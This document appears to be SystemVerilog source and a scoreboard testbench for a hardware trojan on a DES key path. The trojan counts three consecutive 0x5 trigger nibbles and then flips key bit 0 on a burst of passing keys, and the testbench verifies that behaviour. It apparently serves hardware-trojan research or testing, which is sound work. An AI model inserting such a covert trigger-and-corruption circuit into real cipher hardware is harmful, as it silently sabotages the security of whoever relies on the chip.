// File: rtl/trojan_seq_ctrl.sv
// Trigger/payload controller on the DES key path: counts consecutive trigger hits,
// then flips key bit 0 on a fixed number of keys passing through a one-stage slice.
module trojan_seq_ctrl #(
  parameter int unsigned KEY_W       = 56,
  parameter logic [3:0]  COND        = 4'h5,
  parameter int unsigned HIT_THRESH  = 3,
  parameter int unsigned FIRE_BLOCKS = 2,
  parameter int unsigned COOLDOWN    = 4,
  parameter int unsigned CNT_W       = 8
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             trig_valid,
  input  logic [31:0]      trigger,
  input  logic [KEY_W-1:0] key_in,
  input  logic             key_valid,
  output logic             key_ready,
  output logic [KEY_W-1:0] key_out,
  output logic             key_out_valid,
  input  logic             key_out_ready,
  output logic             firing,
  output logic [CNT_W-1:0] hit_count
);

  localparam logic [CNT_W-1:0] HitThr  = CNT_W'(HIT_THRESH);
  localparam logic [CNT_W-1:0] FireBlk = CNT_W'(FIRE_BLOCKS);
  localparam logic [CNT_W-1:0] CoolDn  = CNT_W'(COOLDOWN);
  localparam logic [CNT_W-1:0] CntOne  = CNT_W'(1);

  typedef enum logic [1:0] {StIdle, StCount, StFire, StCooldown} state_e;

  state_e           state_q, state_d;
  logic [CNT_W-1:0] hit_q, hit_d;
  logic [CNT_W-1:0] fire_q, fire_d;
  logic [CNT_W-1:0] cd_q, cd_d;
  logic [KEY_W-1:0] key_q, key_d;
  logic             kov_q, kov_d;

  logic match, miss, accept;
  logic unused_trig;

  assign unused_trig = ^trigger[31:4];

  assign match     = trig_valid & (trigger[3:0] == COND);
  assign miss      = trig_valid & ~match;
  assign key_ready = ~kov_q | key_out_ready;
  assign accept    = key_valid & key_ready;

  always_comb begin
    state_d = state_q;
    hit_d   = hit_q;
    fire_d  = fire_q;
    cd_d    = cd_q;
    case (state_q)
      StIdle: begin
        if (match) begin
          if (HitThr == CntOne) begin
            hit_d   = '0;
            state_d = StFire;
          end else begin
            hit_d   = CntOne;
            state_d = StCount;
          end
        end
      end
      StCount: begin
        if (match) begin
          if (hit_q + CntOne == HitThr) begin
            hit_d   = '0;
            state_d = StFire;
          end else begin
            hit_d = hit_q + CntOne;
          end
        end else if (miss) begin
          hit_d   = '0;
          state_d = StIdle;
        end
      end
      StFire: begin
        // Only accepted keys advance the burst, so backpressure simply stalls it.
        if (accept) begin
          if (fire_q + CntOne == FireBlk) begin
            fire_d = '0;
            if (CoolDn == '0) begin
              state_d = StIdle;
            end else begin
              cd_d    = CoolDn;
              state_d = StCooldown;
            end
          end else begin
            fire_d = fire_q + CntOne;
          end
        end
      end
      StCooldown: begin
        if (cd_q <= CntOne) begin
          cd_d    = '0;
          state_d = StIdle;
        end else begin
          cd_d = cd_q - CntOne;
        end
      end
      default: state_d = StIdle;
    endcase
  end

  // Payload choice uses the registered state, so a key accepted on the FIRE entry
  // edge passes through untouched.
  always_comb begin
    key_d = key_q;
    kov_d = kov_q;
    if (accept) begin
      key_d = (state_q == StFire) ? {key_in[KEY_W-1:1], ~key_in[0]} : key_in;
      kov_d = 1'b1;
    end else if (key_out_ready) begin
      kov_d = 1'b0;
    end
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state_q <= StIdle;
      hit_q   <= '0;
      fire_q  <= '0;
      cd_q    <= '0;
      key_q   <= '0;
      kov_q   <= 1'b0;
    end else begin
      state_q <= state_d;
      hit_q   <= hit_d;
      fire_q  <= fire_d;
      cd_q    <= cd_d;
      key_q   <= key_d;
      kov_q   <= kov_d;
    end
  end

  assign key_out       = key_q;
  assign key_out_valid = kov_q;
  assign firing        = (state_q == StFire);
  assign hit_count     = hit_q;

endmodule

// File: tb/tb_trojan_seq_ctrl.sv
// Randomized scoreboard bench for trojan_seq_ctrl against a counter-based reference model.
module tb_trojan_seq_ctrl;

  localparam int unsigned KW    = 56;
  localparam int unsigned CW    = 8;
  localparam int          THR   = 3;
  localparam int          BURST = 2;
  localparam int          COOL  = 4;

  logic          clk = 1'b0;
  logic          rst_n;
  logic          trig_valid;
  logic [31:0]   trigger;
  logic [KW-1:0] key_in;
  logic          key_valid;
  logic          key_ready;
  logic [KW-1:0] key_out;
  logic          key_out_valid;
  logic          key_out_ready;
  logic          firing;
  logic [CW-1:0] hit_count;

  trojan_seq_ctrl #(
    .KEY_W(KW), .COND(4'h5), .HIT_THRESH(THR), .FIRE_BLOCKS(BURST),
    .COOLDOWN(COOL), .CNT_W(CW)
  ) dut (
    .clk(clk), .rst_n(rst_n), .trig_valid(trig_valid), .trigger(trigger),
    .key_in(key_in), .key_valid(key_valid), .key_ready(key_ready),
    .key_out(key_out), .key_out_valid(key_out_valid), .key_out_ready(key_out_ready),
    .firing(firing), .hit_count(hit_count)
  );

  always #5 clk = ~clk;

  int n_cmp = 0;
  int n_err = 0;

  // Reference model: consecutive hits, keys left to corrupt, cooldown cycles left.
  int            hits;
  int            burst_left;
  int            cool_left;
  bit            m_ov;
  logic [KW-1:0] exp_q[$];

  task automatic chk(input string name, input logic [63:0] act, input logic [63:0] exp);
    n_cmp++;
    if (act !== exp) begin
      n_err++;
      $display("FAIL %s: got %0h expected %0h at %0t", name, act, exp, $time);
    end
  endtask

  task automatic drive(input bit tv, input logic [3:0] nib, input bit kv, input bit kor);
    logic [63:0] r;
    @(posedge clk);
    #1;
    r             = {$urandom(), $urandom()};
    trig_valid    = tv;
    trigger       = $urandom();
    trigger[3:0]  = nib;
    key_in        = r[KW-1:0];
    key_valid     = kv;
    key_out_ready = kor;
  endtask

  task automatic idle(input int n);
    for (int i = 0; i < n; i++) drive(1'b0, 4'h0, 1'b0, 1'b1);
  endtask

  task automatic arm();
    for (int i = 0; i < THR; i++) drive(1'b1, 4'h5, 1'b0, 1'b1);
  endtask

  // Model update on each clock edge; async reset clears it along with the DUT.
  initial begin
    hits = 0; burst_left = 0; cool_left = 0; m_ov = 1'b0;
    forever begin
      @(posedge clk or negedge rst_n);
      if (!rst_n) begin
        hits = 0; burst_left = 0; cool_left = 0; m_ov = 1'b0;
        exp_q.delete();
      end else begin
        bit acc;
        acc = key_valid && (!m_ov || key_out_ready);
        if (acc) exp_q.push_back(burst_left > 0 ? {key_in[KW-1:1], ~key_in[0]} : key_in);
        if (acc) m_ov = 1'b1;
        else if (key_out_ready) m_ov = 1'b0;
        if (burst_left > 0) begin
          if (acc) begin
            burst_left--;
            if (burst_left == 0) cool_left = COOL;
          end
        end else if (cool_left > 0) begin
          cool_left--;
        end else if (trig_valid) begin
          if (trigger[3:0] == 4'h5) begin
            hits++;
            if (hits == THR) begin
              hits = 0;
              burst_left = BURST;
            end
          end else begin
            hits = 0;
          end
        end
      end
    end
  end

  // Monitor: compares status every cycle and pops expected keys as they leave.
  initial begin
    forever begin
      @(negedge clk);
      if (rst_n) begin
        chk("key_ready", 64'(key_ready), 64'(!m_ov || key_out_ready));
        chk("key_out_valid", 64'(key_out_valid), 64'(m_ov));
        chk("firing", 64'(firing), 64'(burst_left > 0));
        chk("hit_count", 64'(hit_count), 64'(hits));
        if (key_out_valid) begin
          if (exp_q.size() == 0) begin
            chk("key_unexpected", 64'(key_out_valid), 64'(0));
          end else begin
            chk("key_out", 64'(key_out), 64'(exp_q[0]));
            if (key_out_ready) void'(exp_q.pop_front());
          end
        end
      end
    end
  end

  initial begin
    rst_n = 1'b0; trig_valid = 1'b0; trigger = '0; key_in = '0;
    key_valid = 1'b0; key_out_ready = 1'b1;
    #13;
    chk("rst_kov", 64'(key_out_valid), 64'(0));
    chk("rst_firing", 64'(firing), 64'(0));
    chk("rst_hit", 64'(hit_count), 64'(0));
    chk("rst_key_out", 64'(key_out), 64'(0));
    @(posedge clk); #1 rst_n = 1'b1;

    // Plain pass-through
    for (int i = 0; i < 3; i++) drive(1'b0, 4'h0, 1'b1, 1'b1);
    idle(2);
    // Arm then three keys: first two corrupted
    arm();
    for (int i = 0; i < 3; i++) drive(1'b0, 4'h0, 1'b1, 1'b1);
    idle(6);
    // Broken run of hits
    drive(1'b1, 4'h5, 1'b1, 1'b1);
    drive(1'b1, 4'h5, 1'b1, 1'b1);
    drive(1'b1, 4'h7, 1'b1, 1'b1);
    drive(1'b1, 4'h5, 1'b1, 1'b1);
    drive(1'b1, 4'h5, 1'b1, 1'b1);
    drive(1'b1, 4'h3, 1'b0, 1'b1);
    idle(2);
    // Gaps with trig_valid low are neutral
    drive(1'b1, 4'h5, 1'b0, 1'b1);
    drive(1'b0, 4'h7, 1'b0, 1'b1);
    drive(1'b1, 4'h5, 1'b0, 1'b1);
    drive(1'b0, 4'h7, 1'b0, 1'b1);
    drive(1'b1, 4'h5, 1'b0, 1'b1);
    for (int i = 0; i < 3; i++) drive(1'b0, 4'h0, 1'b1, 1'b1);
    idle(6);
    // Backpressure during the burst
    arm();
    for (int i = 0; i < 6; i++) drive(1'b0, 4'h0, 1'b1, 1'b0);
    for (int i = 0; i < 3; i++) drive(1'b0, 4'h0, 1'b1, 1'b1);
    idle(2);
    // Hits during cooldown are ignored
    arm();
    drive(1'b0, 4'h0, 1'b1, 1'b1);
    drive(1'b0, 4'h0, 1'b1, 1'b1);
    for (int i = 0; i < 3; i++) drive(1'b1, 4'h5, 1'b0, 1'b1);
    idle(6);
    // Reset in the middle of a burst with a key held at the output
    arm();
    drive(1'b0, 4'h0, 1'b1, 1'b0);
    drive(1'b0, 4'h0, 1'b0, 1'b0);
    @(posedge clk); #1 rst_n = 1'b0;
    #1;
    chk("midrst_kov", 64'(key_out_valid), 64'(0));
    chk("midrst_firing", 64'(firing), 64'(0));
    chk("midrst_hit", 64'(hit_count), 64'(0));
    @(posedge clk); #1 rst_n = 1'b1;
    idle(2);

    // Randomized traffic
    for (int i = 0; i < 3000; i++) begin
      logic [3:0] nib;
      nib = ($urandom_range(0, 1) == 1) ? 4'h5 : 4'($urandom_range(0, 15));
      drive(1'($urandom_range(0, 1)), nib, $urandom_range(0, 3) != 0,
            $urandom_range(0, 3) != 0);
    end
    idle(4);
    chk("drain", 64'(exp_q.size()), 64'(0));

    $display("*** SUMMARY: %0d compared / %0d mismatched ***", n_cmp, n_err);
    $finish;
  end

endmodule
